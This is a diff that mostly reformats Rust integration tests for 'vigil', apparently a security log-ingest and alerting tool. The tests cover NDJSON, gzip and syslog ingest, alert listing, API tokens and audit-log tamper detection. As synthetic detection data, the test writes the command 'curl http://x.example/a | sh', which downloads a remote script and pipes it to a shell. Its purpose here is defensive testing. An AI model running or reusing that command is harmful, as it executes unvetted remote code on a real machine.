@@ -18,28 +18,54 @@ fn offline_ingest_reports_rejects_and_raises_alerts() {
     .unwrap();
     let file = dir.path().join("events.ndjson");
     let mut text = String::new();
-    for i in 0..2000 {
-        let cmd = if i % 500 == 0 { "curl http://x.example/a | sh" } else { "ls -la" };
-        text.push_str(&format!("{{\"i\":{i},\"process\":{{\"command_line\":\"{cmd}\"}},\"host\":{{\"name\":\"h\"}}}}\n"));
+    for i in 0..2000u32 {
+        let cmd = if i.is_multiple_of(500) {
+            "curl http://x.example/a | sh"
+        } else {
+            "ls -la"
+        };
+        text.push_str(&format!(
+            "{{\"i\":{i},\"process\":{{\"command_line\":\"{cmd}\"}},\"host\":{{\"name\":\"h\"}}}}\n"
+        ));
         if i == 100 {
             text.push_str("{\"oops\":\n");
         }
     }
     std::fs::write(&file, &text).unwrap();
-    let (code, out, err) = vigil(dir.path(), &["ingest", file.to_str().unwrap(), "--format", "json", "--output", "json", "-q"]);
+    let (code, out, err) = vigil(
+        dir.path(),
+        &[
+            "ingest",
+            file.to_str().unwrap(),
+            "--format",
+            "json",
+            "--output",
+            "json",
+            "-q",
+        ],
+    );
     assert_eq!(code, 0, "{err}");
     let v: serde_json::Value = serde_json::from_str(&out).unwrap();
     assert_eq!(v[0]["accepted"], 2000);
     assert_eq!(v[0]["rejected"], 1);
     assert_eq!(v[0]["alerts_raised"], 4);
-    assert!(err.contains("line 102:"), "the bad record is reported by line: {err}");
+    assert!(
+        err.contains("line 102:"),
+        "the bad record is reported by line: {err}"
+    );
 
     // The same data gzip-compressed is detected and decompressed.
     let gz = dir.path().join("events.ndjson.gz");
-    let mut enc = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::fast());
+    let mut enc = flate2::write::GzEncoder::new(
+        std::fs::File::create(&gz).unwrap(),
+        flate2::Compression::fast(),
+    );
     enc.write_all(text.as_bytes()).unwrap();
     enc.finish().unwrap();
-    let (code, out, err) = vigil(dir.path(), &["ingest", gz.to_str().unwrap(), "--output", "json", "-q"]);
+    let (code, out, err) = vigil(
+        dir.path(),
+        &["ingest", gz.to_str().unwrap(), "--output", "json", "-q"],
+    );
     assert_eq!(code, 0, "{err}");
     let v: serde_json::Value = serde_json::from_str(&out).unwrap();
     assert_eq!(v[0]["accepted"], 2000);
@@ -52,15 +78,40 @@ fn offline_ingest_reports_rejects_and_raises_alerts() {
          <165>1 2026-11-27T10:00:02.000Z web1 nginx 77 ID47 [origin ip=\"192.0.2.1\"] GET /index.html\n",
     )
     .unwrap();
-    let (code, out, err) = vigil(dir.path(), &["ingest", sys.to_str().unwrap(), "--format", "syslog", "--output", "json", "-q"]);
+    let (code, out, err) = vigil(
+        dir.path(),
+        &[
+            "ingest",
+            sys.to_str().unwrap(),
+            "--format",
+            "syslog",
+            "--output",
+            "json",
+            "-q",
+        ],
+    );
     assert_eq!(code, 0, "{err}");
     let v: serde_json::Value = serde_json::from_str(&out).unwrap();
     assert_eq!(v[0]["accepted"], 2);
 
-    let (code, out, _) = vigil(dir.path(), &["alerts", "list", "--format", "csv", "--min-severity", "critical"]);
+    let (code, out, _) = vigil(
+        dir.path(),
+        &[
+            "alerts",
+            "list",
+            "--format",
+            "csv",
+            "--min-severity",
+            "critical",
+        ],
+    );
     assert_eq!(code, 0);
     let lines: Vec<&str> = out.lines().collect();
-    assert_eq!(lines.len(), 1 + 8, "header + 4 alerts per ingest of the NDJSON file twice: {out}");
+    assert_eq!(
+        lines.len(),
+        1 + 8,
+        "header + 4 alerts per ingest of the NDJSON file twice: {out}"
+    );
     assert!(lines[0].starts_with("time,severity,rule"), "{out}");
 }
 
@@ -73,7 +124,10 @@ fn ingest_refuses_while_a_server_holds_the_data_dir() {
     let (code, _, err) = vigil(dir.path(), &["ingest", file.to_str().unwrap()]);
     assert_eq!(code, 2);
     assert!(err.contains("is in use by vigil serve (pid"), "{err}");
-    assert!(err.contains("/api/v1/ingest"), "the error says what to do instead: {err}");
+    assert!(
+        err.contains("/api/v1/ingest"),
+        "the error says what to do instead: {err}"
+    );
     // Read-only commands work beside the server.
     let (code, _, err) = vigil(dir.path(), &["alerts", "list"]);
     assert_eq!(code, 0, "{err}");
@@ -85,7 +139,12 @@ fn ingest_refuses_while_a_server_holds_the_data_dir() {
 #[test]
 fn tokens_and_audit_verify_detects_a_directly_edited_row() {
     let dir = tempfile::tempdir().unwrap();
-    let (code, token, err) = vigil(dir.path(), &["token", "create", "--role", "ingest", "--name", "shipper", "--quiet"]);
+    let (code, token, err) = vigil(
+        dir.path(),
+        &[
+            "token", "create", "--role", "ingest", "--name", "shipper", "--quiet",
+        ],
+    );
     assert_eq!(code, 0, "{err}");
     assert!(token.trim().starts_with("vgl_"), "{token}");
     let (code, _, _) = vigil(dir.path(), &["token", "create", "--role", "viewer"]);
@@ -109,7 +168,9 @@ fn tokens_and_audit_verify_detects_a_directly_edited_row() {
     // Tamper with the second entry behind Vigil's back.
     let rt = tokio::runtime::Runtime::new().unwrap();
     rt.block_on(async {
-        let store = vigil_store::Store::open_sqlite(&dir.path().join("vigil.db")).await.unwrap();
+        let store = vigil_store::Store::open_sqlite(&dir.path().join("vigil.db"))
+            .await
+            .unwrap();
         store
             .raw_execute("UPDATE audit_log SET target = 'someone-else' WHERE seq = 2")
             .await
@@ -127,7 +188,10 @@ fn config_show_and_help() {
     let (code, out, _) = vigil(dir.path(), &["config", "show"]);
     assert_eq!(code, 0);
     assert!(out.contains("listen = \"127.0.0.1:8080\""), "{out}");
-    assert!(out.contains(&format!("data_dir = \"{}\"", dir.path().display())), "{out}");
+    assert!(
+        out.contains(&format!("data_dir = \"{}\"", dir.path().display())),
+        "{out}"
+    );
     let (code, out, _) = vigil(dir.path(), &["ingest", "--help"]);
     assert_eq!(code, 0);
     assert!(out.contains("--format"), "{out}");
